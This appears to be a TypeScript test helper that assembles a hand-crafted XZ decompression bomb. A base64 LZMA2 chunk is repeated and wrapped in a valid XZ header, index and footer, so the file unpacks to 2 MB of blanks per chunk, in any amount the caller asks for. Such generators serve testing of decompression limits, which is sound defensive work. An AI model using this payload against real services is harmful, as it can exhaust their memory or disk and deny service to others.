// XZ data that unpacks to as much as one likes (XZ format 1.2), put together by hand: the same chunk again and again.

import { crc32 } from 'node:zlib';

/** What one chunk unpacks to: blanks. */
const CHUNK_BYTES = 2 * 1024 * 1024;

/** 382 bytes of LZMA2 that begin with a reset of the dictionary, so that they can stand anywhere. */
const CHUNK = new Uint8Array(
  Buffer.from(
    '//8RAWxdABBv+7/+o7Fe5fg/sqomVfhocEFwFQ+N/R5MG4pCtxn0aRhxrmYjiopNL6MN2X+m44wjEVPgWRjFdYrid/i2lH8MasDe' +
      'dElk4ulcU7IE2PdEDKtfDW1G6eXDdoi3llestk3haR1v+0uIEGxCy4g/XACP0E6vJiiUcR89jyThcJ6nI1/sKMuF0ZWYin4qkfIn' +
      'dfcZwAaYTZj92K/VkA/EJVP49ZE2MQWlsO5vwXBNRwzRkRGqrWAdus6xJxhcWYbpZlJYvul2rFnk5VsFCPnH2q38+1IrdM0eWyBC' +
      '+d1TPfgpZAk7gMsqbN+1O/DEvS5fqg8+S2ZCkBMO/xCT+HF4WfgLzf+VKEYPqfx83vuaMC5WwI+F84OBwGXEJVP49ZE2MQWlsO5v' +
      'wXBNRwzRkRGqrWAdus6xJxhcWYbpZlJYvul2rFnk5VsFCPnH2q38+1IrdM0eWyBC+d1TPfgpZAk7gMsqbN+1O/DEvEgn5liAAO0A' +
      'BQAcpiTxAA==',
    'base64',
  ),
);

const littleEndian = (value: number): readonly number[] => [0, 8, 16, 24].map(shift => (value >>> shift) & 0xff);

const withSum = (bytes: readonly number[]): readonly number[] => [
  ...bytes,
  ...littleEndian(crc32(Uint8Array.from(bytes))),
];

/** Seven bits a byte, the lowest first. */
const variable = (value: number): readonly number[] =>
  value < 0x80 ? [value] : [(value % 0x80) | 0x80, ...variable(Math.floor(value / 0x80))];

const padded = (bytes: readonly number[]): readonly number[] => [...bytes, ...[0, 0, 0].slice((bytes.length + 3) % 4)];

const STREAM_FLAGS = [0, 0];
/** One filter, LZMA2, with a dictionary of 8 MB. */
const BLOCK_HEADER = withSum([2, 0, 0x21, 1, 0x16, 0, 0, 0]);

/** Unpacks to 2 MB of blanks for each chunk. */
export const xzBomb = (chunks: number): Uint8Array => {
  const body = new Uint8Array(CHUNK.length * chunks + 1);
  for (let i = 0; i < chunks; i++) body.set(CHUNK, i * CHUNK.length);
  const unpadded = BLOCK_HEADER.length + body.length;
  const index = withSum(padded([0, 1, ...variable(unpadded), ...variable(CHUNK_BYTES * chunks)]));
  const footer = [...littleEndian(index.length / 4 - 1), ...STREAM_FLAGS];
  return Buffer.concat([
    Uint8Array.from([
      0xfd,
      0x37,
      0x7a,
      0x58,
      0x5a,
      0,
      ...STREAM_FLAGS,
      ...littleEndian(crc32(Uint8Array.from(STREAM_FLAGS))),
    ]),
    Uint8Array.from(BLOCK_HEADER),
    body,
    new Uint8Array((4 - (unpadded % 4)) % 4),
    Uint8Array.from(index),
    Uint8Array.from([...littleEndian(crc32(Uint8Array.from(footer))), ...footer, 0x59, 0x5a]),
  ]);
};
